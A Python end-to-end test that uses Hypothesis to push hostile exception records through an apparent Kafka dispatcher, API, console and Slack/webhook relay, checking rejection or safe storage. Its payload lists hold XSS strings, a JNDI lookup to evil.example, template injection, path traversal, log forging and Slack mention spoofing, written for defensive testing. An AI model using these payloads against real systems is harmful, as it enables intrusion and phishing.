"""Issue 23, "Tests", first bullet: hostile records written straight onto `exceptions`, between
well-formed critical ones, through the real dispatcher, the real API (its notification relay to a
real local receiver, its console) and the real broker.

Hypothesis generates the hostile records (extreme and odd `detected_at`, identifiers with every class
of character, Slack and HTML markup in every text field, huge `occurrences`); one stack serves every
example. What must hold: every well-formed record is stored, listed, notified exactly once and its
console page answers 200; no answer is a 500; each hostile record is either on `exceptions.dlq` with
an `error` header (the API's 4xx answer) naming the field, or stored and fully usable (its API read
and its console page answer 200, and it is notified once like any critical exception).
"""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import os
import re
import uuid
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import orjson
import pytest
from aiokafka.errors import KafkaError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from loopgate.common.kafka import consumer_group_lag, read_topic
from tests.fixtures.api import record
from tests.fixtures.kafka import produce
from tests.fixtures.receivers import Receivers
from tests.fixtures.services import Stack, wait_until

pytestmark = [pytest.mark.kafka, pytest.mark.e2e]

EXAMPLES = int(os.environ.get("LOOPGATE_HOSTILE_EXAMPLES", "5"))

# --- what a hostile neighbour writes ----------------------------------------------------------

MARKUP = [
    "<!channel>",
    "<!here|here>",
    "<https://evil.example|Loopgate: sign in again>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;&amp;&gt; *bold* _it_ ~strike~ `code`",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
]
# One of each class of character an identifier could hold.
ODD_PIECES = [
    "/",
    "a/b/../../c",
    "..",
    "%2F%00",
    "?x=1#frag",
    " spaced out ",
    "\r\n2026-12-01 INFO forged line",
    "\n",
    "\t",
    "\x00",
    "\x1b[31m",
    "\x85",  # NEL
    "\u2028",  # line separator
    "\u202e",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff",  # BOM
    "\ud800",  # a lone surrogate
    "\U0001f4a5\U0001f525",  # emoji
    "e\u0301",  # combining accent
    "\u05d0\u05d1",  # Hebrew (right to left, no control)
    "x" * 10_000,  # 10 kB
    *MARKUP,
]
IDENTIFIERS = ["exception_id", "fingerprint", "rule_id", "client_id", "subject"]
TEXT_FIELDS = ["summary", "source", "event_type", "subject", "client_id", "fingerprint", "rule_id", "exception_id"]


def _now(delta: dt.timedelta = dt.timedelta(0), tz: dt.tzinfo = dt.UTC) -> dt.datetime:
    return (dt.datetime.now(dt.UTC) + delta).astimezone(tz)


# Each a function, so a time relative to now is computed when the record is drawn.
DETECTED_AT: list[Callable[[], Any]] = [
    lambda: "0001-01-01T00:00:00Z",
    lambda: "0001-01-01T00:00:00+14:00",
    lambda: "9999-12-31T23:59:59Z",
    lambda: "9999-12-31T23:59:59.999999-23:59",
    lambda: "1969-12-31T23:59:59Z",
    lambda: "2199-12-31T23:59:59Z",
    lambda: _now().replace(tzinfo=None).isoformat(),  # naive
    lambda: _now().strftime("%Y-%m-%d"),  # a bare date
    lambda: _now().strftime("%d/%m/%Y %H:%M"),  # not RFC 3339
    lambda: "yesterday",
    lambda: "",
    lambda: int(_now().timestamp()),  # a unix time
    lambda: None,
    lambda: "2026-02-30T00:00:00Z",
    lambda: _now(dt.timedelta(hours=1)).isoformat(),  # ahead of the window
    lambda: _now(-dt.timedelta(days=31)).isoformat(),  # behind the window
    # Odd but valid: in the window, on far-away offsets or spelled unusually (stored).
    lambda: _now(tz=dt.timezone(dt.timedelta(hours=14))).isoformat(),
    lambda: _now(tz=dt.timezone(-dt.timedelta(hours=23, minutes=59))).isoformat(),
    lambda: _now().strftime("%Y-%m-%dt%H:%M:%S.%f123z"),
    lambda: _now().strftime("%Y-%m-%d %H:%M:%SZ"),
]
OCCURRENCES = [0, -1, 2**31 - 1, 2**31, 2**63, 2**64 + 1, 10**30, 1.5, "5", True, None, 1e308]


def fresh() -> str:
    return uuid.uuid4().hex[:12]


@st.composite
def odd_identifier(draw: st.DrawFn) -> str:
    """A piece of every class of character, with a fresh part so that no two examples collide."""
    pieces = draw(st.lists(st.sampled_from(ODD_PIECES) | st.text(min_size=1, max_size=8), min_size=1, max_size=3))
    odd = "".join(pieces)
    return draw(st.sampled_from([f"{odd}{fresh()}", f"{fresh()}{odd}", f"{fresh()}{odd}{fresh()}"]))


@st.composite
def hostile(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """(the field made hostile, the record): a critical record (the relay renders it) with one field changed."""
    base = record(severity="critical")
    how = draw(st.sampled_from(["detected_at", "identifier", "markup", "occurrences", "structured"]))
    if how == "detected_at":
        field = "detected_at"
        base[field] = draw(st.sampled_from(DETECTED_AT))()
    elif how == "identifier":
        field = draw(st.sampled_from(IDENTIFIERS))
        base[field] = draw(odd_identifier())
    elif how == "markup":
        field = draw(st.sampled_from(TEXT_FIELDS))
        base[field] = f"{draw(st.sampled_from(MARKUP))} {fresh()}"
    elif how == "occurrences":
        field = "occurrences"
        base[field] = draw(st.sampled_from(OCCURRENCES))
    else:  # markup in the structured text: the event, observed, threshold, expected
        field = draw(st.sampled_from(["event", "observed", "threshold", "expected"]))
        text = draw(st.sampled_from(MARKUP + ODD_PIECES))
        base[field] = (
            {text: text, "nested": {"list": [text, 1]}}
            if field != "event"
            else {
                "id": f"{text}{fresh()}",
                "type": text,
                "data": {"caption": text, text: text},
            }
        )
    return field, base


def encode(value: dict[str, Any]) -> bytes:
    """JSON as a hostile producer writes it: any integer, lone surrogates escaped."""
    return json.dumps(value, ensure_ascii=True).encode()


# --- what must hold ---------------------------------------------------------------------------


def names_field(error: str, field: str) -> bool:
    """The API's answer (copied into the dead letter's `error` header, at most 4000 bytes) names `field`:
    in an error's loc, or as the message's subject for a check over the whole record."""
    try:
        answer = json.loads(error)
    except ValueError:  # cut at 4000 bytes: the text still names it
        return f'"body","{field}"' in error or f"{field}:" in error or f"{field}." in error
    detail = answer.get("detail") if isinstance(answer, dict) else None
    if not isinstance(detail, list) or not detail:
        return field in str(detail)
    return all(
        list(e.get("loc", []))[1:2] == [field] or str(e.get("msg", "")).startswith((f"{field}:", f"{field}."))
        for e in detail
    )


def ok(answer: httpx.Response, what: str) -> httpx.Response:
    assert answer.status_code != 500, f"{what}: 500\n{answer.text[:2000]}"
    assert answer.status_code == 200, f"{what}: {answer.status_code}\n{answer.text[:2000]}"
    return answer


def csrf_of(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found, page[:500]
    return found.group(1)


def signed_in(stack: Stack) -> httpx.Client:
    """A browser-like client signed in to the console as the operator (through the form)."""
    console = httpx.Client(base_url=stack.api_url, timeout=10)
    page = ok(console.get("/console/sign-in"), "the sign-in page")
    answer = console.post(
        "/console/sign-in", data={"csrf": csrf_of(page.text), "token": stack.operator_token}, follow_redirects=True
    )
    ok(answer, "signing in")
    return console


def opened(receiver: Receivers) -> Counter[str]:
    """How many `opened` CloudEvents the webhook receiver accepted, per exception id."""
    return Counter(
        r.body["subject"]
        for r in receiver.snapshot()
        if r.path == "/oncall" and r.body.get("type") == "loopgate.exception.opened"
    )


def listed(http: httpx.Client, since: str) -> set[str]:
    """Every critical exception id the list returns (every page) since the test began."""
    ids: set[str] = set()
    params: dict[str, Any] = {"severity": "critical", "detected_after": since, "limit": 200}
    while True:
        page = ok(http.get("/v1/exceptions", params=params), "the list").json()
        ids |= {e["id"] for e in page["items"]}
        if not page.get("next_cursor"):
            return ids
        params["cursor"] = page["next_cursor"]


def test_hostile_records_are_dead_lettered_naming_the_field_or_stored_and_usable_and_the_rest_goes_on(
    stack_factory: Callable[..., Stack], tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    receiver = Receivers().start()
    request.addfinalizer(receiver.stop)
    notifications = tmp_path / "notifications.toml"
    notifications.write_text(
        f'[receivers.oncall]\nkind = "webhook"\nurl = "{receiver.base}/oncall"\n'
        f'[receivers.slack]\nkind = "slack"\nurl = "{receiver.base}/slack"\n'
        '[queues.default]\nreceivers = ["oncall", "slack"]\nmin_severity = "critical"\n'
    )
    stack = stack_factory(
        notifications_file=notifications,
        notify_interval_seconds=0.2,
        notify_retry_initial_seconds=0.2,
        notify_retry_max_seconds=1.0,
        console_secure_cookie=False,
    )
    s = stack.settings
    since = _now(-dt.timedelta(minutes=1)).isoformat()
    stack.start("api")
    stack.start("dispatcher")
    http = stack.client()
    console = signed_in(stack)
    request.addfinalizer(http.close)
    request.addfinalizer(console.close)
    good_ids: list[str] = []
    stored_hostile: list[str] = []

    def settled() -> bool:
        assert stack.processes["dispatcher"].alive(), stack.logs()
        assert stack.processes["api"].alive(), stack.logs()
        try:
            lag = asyncio.run(consumer_group_lag(s.kafka_bootstrap, s.group(s.dispatcher_group), [s.exceptions_topic]))
            return lag == 0
        except KafkaError:  # the group is not there before the dispatcher's first commit
            return False

    def usable(exception_id: str, what: str) -> None:
        path = quote(exception_id, safe="")
        read = ok(http.get(f"/v1/exceptions/{path}"), f"GET {what} {exception_id!r:.200}").json()
        assert read["id"] == exception_id
        ok(http.get(f"/v1/exceptions/{path}/history"), f"the history of {what} {exception_id!r:.200}")
        ok(console.get(f"/console/exceptions/{path}"), f"the console page of {what} {exception_id!r:.200}")

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
            HealthCheck.function_scoped_fixture,
        ],
    )
    @given(st.lists(hostile(), min_size=1, max_size=4))
    def example(bad: list[tuple[str, dict[str, Any]]]) -> None:
        good = [record(severity="critical", exception_id=f"exc-good-{fresh()}") for _ in range(len(bad) + 1)]
        stream: list[tuple[bytes, bytes]] = []
        for i, g in enumerate(good):
            stream.append((g["exception_id"].encode(), orjson.dumps(g)))
            if i < len(bad):
                stream.append((b"hostile", encode(bad[i][1])))
        asyncio.run(produce(s.kafka_bootstrap, s.exceptions_topic, stream))
        wait_until(settled, timeout=120, what="the dispatcher to settle every record", interval=0.3)

        dead = {d.value: dict(d.headers) for d in asyncio.run(read_topic(s.kafka_bootstrap, s.exceptions_dlq_topic))}
        for g in good:
            assert orjson.dumps(g) not in dead, f"a well-formed record was dead-lettered: {dead[orjson.dumps(g)]!r}"
            usable(g["exception_id"], "a well-formed record")
            good_ids.append(g["exception_id"])
        for field, value in bad:
            letter = dead.get(encode(value))
            if letter is not None:
                status = int(letter["api-status"])
                assert 400 <= status < 500, f"{field}={value.get(field)!r:.300}: dead-lettered with {status}"
                error = letter["error"].decode(errors="replace")
                assert names_field(error, field), f"{field}={value.get(field)!r:.300}: the answer {error[:1000]}"
            else:
                usable(value["exception_id"], f"a stored hostile record ({field}={value.get(field)!r:.300})")
                stored_hostile.append(value["exception_id"])

    try:
        example()
        ok(console.get("/console/queue"), "the console queue")
        ok(console.get("/console/queue", params={"severity": "critical"}), "the console queue, critical")
        assert set(good_ids) <= listed(http, since)
        told = set(good_ids) | set(stored_hostile)
        wait_until(lambda: told <= set(opened(receiver)), timeout=60, what="every critical exception's notification")
        # Exactly once: settle once more (the relay has nothing pending), then count.
        wait_until(settled, timeout=30, what="the dispatcher")
    except BaseException:
        print(stack.logs())
        raise
    counts = opened(receiver)
    assert {i: counts[i] for i in told if counts[i] != 1} == {}
    slack = [json.dumps(r.body) for r in receiver.snapshot() if r.path == "/slack"]
    assert slack, "the Slack receiver heard nothing"
    live = [m for m in ("<!channel>", "<!here", "<https://evil.example") if any(m in body for body in slack)]
    assert live == [], f"live Slack markup from a record reached the channel: {live}"
